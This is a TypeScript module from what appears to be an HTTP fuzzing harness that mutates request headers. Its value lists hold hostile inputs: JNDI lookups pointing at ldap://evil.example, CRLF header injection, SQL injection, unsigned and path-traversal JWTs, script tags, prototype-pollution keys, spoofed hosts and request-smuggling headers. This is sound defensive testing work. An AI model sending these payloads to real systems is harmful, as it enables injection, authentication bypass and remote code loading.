import { type Draft, type Mutation, setHeader } from './draft.ts'
import { TEXTS } from './hostile-values.ts'
import type { Random } from './random.ts'

/** Values of a header, by its name. */
const VALUES: Readonly<Record<string, readonly string[]>> = {
  Accept: [
    'text/csv',
    'application/x-ndjson',
    'application/vnd.apache.parquet',
    'text/html',
    '*/*;q=0',
    'application/json;q=2',
    'application/json;q=NaN, */*',
    ',,,',
    '/',
    'a/b;"',
    '*/*;'.repeat(2_000),
    'a/a,'.repeat(5_000),
    '\u00e4/\u00f6',
    'application/json; charset="',
  ],
  'Accept-Encoding': [
    'gzip',
    'zstd',
    'br',
    '*;q=0',
    'identity;q=0, *;q=0',
    'gzip;q=1.5',
    'gzip,'.repeat(5_000),
    '\u00e4',
    ';',
    'GZIP;Q=0.5',
  ],
  'Content-Type': [
    'application/json; charset=utf-16',
    'application/json; charset="',
    `application/json; ${'a=b;'.repeat(3_000)}`,
    'application/json;;;',
    'APPLICATION/JSON',
    'application/json, text/plain',
    'application/x-www-form-urlencoded',
    'multipart/form-data; boundary=x',
    'text/plain',
    'application/json/x',
    '/',
    '',
    '\u00e4',
    'application/json\t; charset = utf-8',
    '__proto__',
    'constructor',
    `application/json; charset=${' '.repeat(20_000)}x`,
  ],
  'Content-Encoding': ['gzip', 'br', 'zstd', 'deflate', 'identity', '', ' ', 'gzip;q=1', '__proto__', 'constructor', '\u00e4'],
  Host: ['', 'evil.example', 'a b', '[::1', '127.0.0.1:99999', 'x'.repeat(5_000), '\u00e4', 'evil.example/path?', '..'],
  'X-Request-Id': ['', 'x'.repeat(5_000), '"}{"level":60', '\u00e4', '\tx', '%0d%0aX-Injected: 1', '<script>'],
  CorrelationId: ['', 'x'.repeat(129), '"}{"level":60', '\u00ff', '$\u007bjndi:ldap://evil.example}'],
  'User-Agent': ['\u001b[31m', '$\u007bjndi:ldap://evil.example}', 'x'.repeat(20_000)],
  Cookie: [
    'a=b',
    ';;;',
    'rollcall_session',
    'rollcall_session=',
    'rollcall_session=%00',
    'rollcall_session=x; rollcall_session=y',
    '__proto__=x',
    `a=${'b'.repeat(20_000)}`,
    'rollcall_session="%zz"',
  ],
  'X-CSRF-Token': ['', 'x', 'x'.repeat(20_000), '\u00e4'],
  'X-Forwarded-For': ['', 'x', '1.2.3.4, 5.6.7.8', "' or 1=1", '::1', 'x,'.repeat(3_000)],
  'X-Forwarded-Proto': ['https', 'javascript', 'https,http', ''],
  'X-Forwarded-Host': ['evil.example', '', 'a, b'],
  'X-HTTP-Method-Override': ['DELETE', 'PUT'],
  'If-None-Match': ['*', 'W/"x"', '"', '"a"'.repeat(5_000), 'W/', '\u00e4'],
  'If-Modified-Since': ['x', 'Mon, 05 Jan 2026 09:00:00 GMT', '-1'],
  Range: ['bytes=0-0', 'bytes=-1', `bytes=${'0-1,'.repeat(1_000)}`, 'x'],
  Expect: ['100-continue', 'x', ''],
  Upgrade: ['h2c', 'websocket', 'x'],
  TE: ['trailers', 'chunked'],
  Connection: ['close', 'keep-alive', 'upgrade', 'content-length', 'x'.repeat(100)],
  Origin: ['null', 'http://evil.example', ''],
  Forwarded: ['for=_x;proto=https', ';'],
  'Last-Event-ID': ['x', '\u00e4', '1'.repeat(5_000)],
}

const AUTHORIZATIONS: readonly ((own: string) => string)[] = [
  () => '',
  () => 'Basic',
  () => 'Basic ',
  () => 'Basic Og==',
  () => 'Basic %%%',
  () => `Basic ${Buffer.from(`${"' or 1=1 --"}:x`).toString('base64')}`,
  () => `Basic ${Buffer.from('\u0000:\u0000').toString('base64')}`,
  () => `Basic ${Buffer.from(`${'x'.repeat(30_000)}:x`).toString('base64')}`,
  () => 'Bearer ..',
  () => 'Bearer eyJhbGciOiJub25lIn0.e30.',
  () => `Bearer ${'a.'.repeat(10_000)}`,
  () => `Bearer ${'A'.repeat(30_000)}`,
  () => `Bearer ${Buffer.from('{"alg":"HS256","kid":"../../x"}').toString('base64url')}.e30.AAAA`,
  () => `Bearer ${Buffer.from('{"alg":"HS256","kid":{"x":1}}').toString('base64url')}.e30.AAAA`,
  () => `Bearer ${Buffer.from('{"alg":"HS256","crit":["b64"],"b64":false}').toString('base64url')}.e30.AAAA`,
  () => 'Digest username="x"',
  () => 'Negotiate x',
  () => '\u00e4 \u00f6',
  () => ' '.repeat(20_000),
  (own) => `${own} ${own}`,
  (own) => `${own},${own}`,
  (own) => own.toLowerCase(),
  (own) => own.slice(0, -3),
  (own) => own.replace(' ', '\t'),
]

const headerOf = ({ headers }: Draft, name: string): string | undefined =>
  headers.find(([other]) => other.toLowerCase() === name)?.[1]

const value: Mutation = (draft, random) => {
  const name = random.pick(Object.keys(VALUES))
  setHeader(draft, name, random.chance(0.9) ? random.pick(VALUES[name] as readonly string[]) : anyText(random))
  return `header ${name}`
}

/** Text without what ends a header: the rest of the bytes may stand in one. */
const anyText = (random: Random): string =>
  Buffer.from(random.pick(TEXTS).slice(0, 20_000))
    .toString('latin1')
    .replaceAll(/[\r\n\0]/g, ' ')

const twice: Mutation = (draft, random) => {
  if (draft.headers.length === 0) return undefined
  const again = random.pick(draft.headers)
  draft.headers = [...draft.headers, [again[0], random.chance(0.5) ? again[1] : anyText(random)]]
  return `header ${again[0]} twice`
}

const authorization: Mutation = (draft, random) => {
  setHeader(draft, 'Authorization', random.pick(AUTHORIZATIONS)(headerOf(draft, 'authorization') ?? 'Bearer x'))
  return 'header Authorization'
}

const left: Mutation = (draft, random) => {
  if (draft.headers.length === 0) return undefined
  const gone = random.pick(draft.headers)
  draft.headers = draft.headers.filter((header) => header !== gone)
  return `no header ${gone[0]}`
}

const many: Mutation = (draft, random) => {
  const count = random.pick([50, 1_500])
  draft.headers = [...draft.headers, ...Array.from({ length: count }, (_, at) => [`X-H${at}`, 'x'] as const)]
  return `${count} headers more`
}

/** Invalid headers, which are refused before they form a request. */
const broken: Mutation = (draft, random) => {
  const header = random.pick<readonly [string, string]>([
    ['X Y', 'x'],
    ['X-\u00e4', 'x'],
    ['', 'x'],
    ['X-Nul', 'a\0b'],
    ['X-Bare', 'a\rb'],
    ['X-Fold', 'a\r\n b'],
    ['X-Line', 'a\nX-Injected: 1'],
    ['Transfer-Encoding', 'chunked'],
    ['Transfer-Encoding', 'xchunked'],
    ['Content-Length', '0'],
    ['Content-Length', '+1'],
  ])
  // Chunks that never come would be waited for.
  if (header[0] === 'Transfer-Encoding' && draft.json === undefined) return undefined
  draft.headers = [...draft.headers, header]
  return `broken header ${header[0]}`
}

/** A length that is too short, or none; one that is too long is a call that waits for its rest. */
const length: Mutation = (draft, random) => {
  draft.length = random.pick(['0', '1', '-1', '1e3', '0x10', ' ', '9'.repeat(30), '8388609', null])
  return `Content-Length ${draft.length}`
}

export const HEADER_MUTATIONS: readonly Mutation[] = [
  ...Array<Mutation>(6).fill(value),
  twice,
  authorization,
  left,
  many,
  broken,
  length,
]
